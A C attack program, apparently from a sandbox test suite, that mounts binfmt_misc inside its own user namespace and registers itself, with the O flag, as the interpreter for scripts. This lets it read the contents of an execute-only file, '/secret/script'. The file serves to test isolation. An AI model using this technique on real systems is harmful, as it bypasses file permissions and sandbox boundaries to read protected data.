// SPDX-License-Identifier: Apache-2.0
// attack_reader SECONDS ENOUGH: registers itself, in a user namespace of its own, as the interpreter of scripts, for which the
// kernel opens them (flag O of binfmt_misc), and executes the secret one a few times.
#include "attack.h"
#include <sched.h>
#include <sys/auxv.h>
#include <sys/mount.h>

enum { TIMES = 20, READ = 7 };

#define SCRIPT "/secret/script"
#define SCRIPT_TEXT "#!/bin/sh\necho BANNED\n"
#define REGISTER "/tmp/formats/register"

static void put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  require(fd >= 0 && write(fd, text, strlen(text)) > 0 && close(fd) == 0, path);
}

static Outcome execute(void) {
  pid_t child = fork();
  if (child == 0) _exit(execl(SCRIPT, SCRIPT, NULL));
  int status = 0;
  waitpid(child, &status, 0);
  return WIFEXITED(status) && WEXITSTATUS(status) == READ ? SUCCESS : NOTHING;
}

int main(int argc, char **argv) {
  int program = (int)getauxval(AT_EXECFD);
  char text[64] = {0};
  if (program) return read(program, text, sizeof text - 1) > 0 && strcmp(text, SCRIPT_TEXT) == 0 ? READ : 0;
  begin(argc, argv);
  require(mkdir("/tmp/formats", 0755) == 0, "make a folder");
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) return unavailable("user namespaces are not permitted");
  put("/proc/self/setgroups", "deny");
  put("/proc/self/uid_map", "0 1000 1");
  put("/proc/self/gid_map", "0 1000 1");
  if (mount("formats", "/tmp/formats", "binfmt_misc", 0, NULL)) return unavailable("no formats of a user namespace's own");
  char line[128];
  snprintf(line, sizeof line, ":attack:M::#!::%s:O", argv[0]);
  put(REGISTER, line);
  for (int time = 0; time < TIMES && !is_over(); time++) count(execute());
  return finish();
}
